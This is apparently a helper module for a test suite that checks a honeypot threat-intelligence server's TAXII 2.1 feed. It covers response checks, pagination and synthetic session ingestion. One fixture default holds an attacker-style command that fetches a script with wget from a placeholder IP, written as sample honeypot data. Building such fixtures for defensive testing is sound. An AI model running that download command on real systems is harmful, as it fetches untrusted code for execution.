"""Shared helpers: a thin HTTP client, the assertions every TAXII response must pass, and the
collection snapshot most tests compare against."""

import json
import os
import re
import secrets
import time
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timezone

import requests

TAXII_CT = "application/taxii+json;version=2.1"
STIX_CT = "application/stix+json;version=2.1"
ALIAS = "sikker-threat-intel"
TLP_CLEAR = "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"

TAXII_TS = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$")
# date_added is millisecond-safe: the sub-millisecond digits are zero.
TAXII_TS_MS_SAFE = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}000Z$")
STIX_TS_MS = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$")

# A walk of the test collection takes seconds; a server that pages forever must fail, not hang.
WALK_TIMEOUT_S = 300

# Notes printed at the end of the run (warning counts, timings).
REPORT = []


def parse_ts(s: str) -> datetime:
    """Parses the timestamps this suite itself writes or reads (RFC 3339, UTC)."""
    if s.endswith("Z"):
        s = s[:-1] + "+00:00"
    return datetime.fromisoformat(s).astimezone(timezone.utc)


def taxii_ts(dt: datetime) -> str:
    return dt.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def uuid7() -> str:
    """A UUIDv7 (RFC 9562): 48-bit Unix milliseconds, version 7, RFC 4122 variant, random rest."""
    ms = time.time_ns() // 1_000_000
    rand = int.from_bytes(secrets.token_bytes(10), "big")
    value = (ms & ((1 << 48) - 1)) << 80 | rand & ((1 << 80) - 1)
    value = value & ~(0xF << 76) | (0x7 << 76)
    value = value & ~(0x3 << 62) | (0x2 << 62)
    return str(uuid.UUID(int=value))


class Taxii:
    """HTTP access to one server. Paths are relative to the server root."""

    def __init__(self, base: str, api_key: str):
        self.base = base
        self.key = api_key
        self.http = requests.Session()

    def url(self, path: str) -> str:
        return self.base + path

    def request(self, method, path, *, auth="bearer", accept=TAXII_CT, params=None, headers=None,
                allow_redirects=True, http_auth=None, **kw):
        h = {"Accept": accept}  # None removes the header (requests would otherwise send */*)
        if auth == "bearer":
            h["Authorization"] = f"Bearer {self.key}"
        elif auth is not None and auth != "none":
            raise ValueError(auth)
        h.update(headers or {})
        return self.http.request(method, self.url(path), params=params, headers=h, auth=http_auth,
                                 allow_redirects=allow_redirects, timeout=120, **kw)

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def ok(self, path, **kw) -> requests.Response:
        """GET that must succeed: 200, exact Content-Type, JSON body without empty lists."""
        r = self.get(path, **kw)
        assert r.status_code == 200, describe(r)
        assert_taxii_response(r)
        return r

    def walk(self, endpoint, params=None, limit=1000, follow_with_filters=True):
        """Every page of objects/ or manifest/ following `next`; returns the list of responses."""
        params = dict(params or {})
        pages = []
        query = dict(params, limit=limit)
        seen_tokens = set()
        deadline = time.monotonic() + WALK_TIMEOUT_S
        while True:
            r = self.ok(endpoint, params=query)
            body = r.json()
            pages.append(r)
            if not body.get("more", False):
                return pages
            token = body.get("next")
            assert isinstance(token, str) and token, f"more=true without a non-empty string next: {body.get('next')!r}"
            assert token not in seen_tokens, f"next token repeated: {token!r}"
            seen_tokens.add(token)
            assert time.monotonic() < deadline, f"pagination did not end within {WALK_TIMEOUT_S}s ({len(pages)} pages)"
            query = dict(params if follow_with_filters else {}, limit=limit, next=token)


def bounded(pages, max_pages):
    """Iterates taxii2-client's as_pages, failing instead of looping forever (as_pages re-requests
    page 1 without end when a server says more=true without next)."""
    for n, page in enumerate(pages, 1):
        assert n <= max_pages, f"more than {max_pages} pages: the walk does not end"
        yield page


def describe(r: requests.Response) -> str:
    body = r.text
    if len(body) > 600:
        body = body[:600] + "…"
    return (f"{r.request.method} {r.request.url} -> {r.status_code} "
            f"Content-Type={r.headers.get('Content-Type')!r} body={body!r}")


def find_empty_lists(value, path="$"):
    if isinstance(value, list):
        if not value:
            yield path
        for i, v in enumerate(value):
            yield from find_empty_lists(v, f"{path}[{i}]")
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from find_empty_lists(v, f"{path}.{k}")


def assert_taxii_response(r: requests.Response):
    assert r.headers.get("Content-Type") == TAXII_CT, describe(r)
    try:
        body = r.json()
    except ValueError:
        raise AssertionError(f"body is not JSON: {describe(r)}")
    assert isinstance(body, dict), describe(r)
    empties = list(find_empty_lists(body))
    assert not empties, f"empty lists are prohibited (TAXII §2): {empties[:5]} in {describe(r)}"
    return body


def assert_error(r: requests.Response, status: int):
    """An error response: the status, the exact TAXII Content-Type, a TAXII error resource."""
    assert r.status_code == status, f"expected {status}: {describe(r)}"
    assert r.headers.get("Content-Type") == TAXII_CT, describe(r)
    try:
        body = r.json()
    except ValueError:
        raise AssertionError(f"error body is not JSON: {describe(r)}")
    assert isinstance(body, dict), describe(r)
    assert isinstance(body.get("title"), str) and body["title"], f"error without title: {describe(r)}"
    assert body.get("http_status") == str(status), f"http_status must be the string {str(status)!r}: {describe(r)}"
    return body


def objects_of(r: requests.Response):
    return r.json().get("objects", [])


@dataclass
class Snapshot:
    """The collection as it was before any test changed it."""

    ips: int
    manifest_pages: list = field(default_factory=list)
    object_pages: list = field(default_factory=list)
    manifest: list = field(default_factory=list)  # manifest records, oldest first
    objects: list = field(default_factory=list)  # STIX objects, same order
    collection: dict = field(default_factory=dict)
    first_next: str = ""  # a next token taken at the start of the run

    @classmethod
    def take(cls, taxii: "Taxii", ips: int) -> "Snapshot":
        snap = cls(ips=ips)
        cols = taxii.ok("/taxii2/collections/", auth=None).json()["collections"]
        snap.collection = cols[0]
        base = f"/taxii2/collections/{ALIAS}"
        snap.manifest_pages = taxii.walk(base + "/manifest/")
        snap.object_pages = taxii.walk(base + "/objects/")
        for r in snap.manifest_pages:
            snap.manifest.extend(objects_of(r))
        for r in snap.object_pages:
            snap.objects.extend(objects_of(r))
        snap.first_next = snap.object_pages[0].json().get("next", "")
        return snap

    @property
    def date_added(self) -> dict:
        return {m["id"]: m["date_added"] for m in self.manifest}

    @property
    def by_id(self) -> dict:
        return {o["id"]: o for o in self.objects}

    def indicators(self):
        return [o for o in self.objects if o.get("type") == "indicator"]

    def ip_of(self, indicator) -> str:
        m = re.fullmatch(r"\[ipv[46]-addr:value = '([^']+)'\]", indicator["pattern"])
        assert m, indicator["pattern"]
        return m.group(1)

    def first_indicator(self, family: int):
        prefix = f"[ipv{family}-addr:"
        for o in self.indicators():
            if o["pattern"].startswith(prefix):
                return o
        raise AssertionError(f"no IPv{family} indicator in the collection")


def session_events(ip: str, sensor: str, ts: datetime, *, protocol="ssh", dst_port=22,
                   username="root", password="hunter2", command="uname -a; wget http://198.51.100.7/x.sh"):
    """One complete honeypot session from `ip`, in sikker's event wire format."""
    session = str(uuid.uuid4())
    common = dict(sensor=sensor, session=session, protocol=protocol, src_ip=ip, src_port=40000 + secrets.randbelow(20000),
                  dst_port=dst_port)

    def ev(offset_ms, kind, **data):
        t = ts.timestamp() + offset_ms / 1000
        stamp = datetime.fromtimestamp(t, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        return dict(common, id=uuid7(), ts=stamp, kind=kind, **data)

    return [
        ev(0, "connect"),
        ev(150, "auth", method="password", username=username, password=password, success=True),
        ev(900, "command", line=command),
        ev(2400, "disconnect", reason="closed", duration_ms=2400, bytes_in=180, bytes_out=950),
    ]


def ingest(base: str, token: str, events) -> dict:
    r = requests.post(base + "/v1/ingest", data=json.dumps(events),
                      headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
                      timeout=60)
    assert r.status_code == 200, describe(r)
    return r.json()


def env_int(name, default):
    return int(os.environ.get(name, default))
